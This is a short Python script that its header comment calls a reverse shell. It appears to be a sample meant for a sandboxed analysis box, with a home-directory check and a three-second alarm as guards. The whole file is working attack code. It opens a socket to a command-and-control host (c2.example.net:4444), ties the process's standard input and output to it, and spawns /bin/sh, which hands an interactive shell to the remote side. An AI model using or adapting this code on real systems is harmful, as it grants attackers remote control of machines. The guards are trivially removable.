#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# A Python reverse shell: connect back, put the socket on 0, 1 and 2, and
# spawn a shell on a pseudo-terminal (given up after a few seconds).
import os
import pty
import signal
import socket
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

signal.alarm(3)
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("c2.example.net", 4444))
s.sendall(b"ready\n")
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
try:
    pty.spawn("/bin/sh")
except OSError:
    os.execv("/bin/sh", ["sh", "-i"])
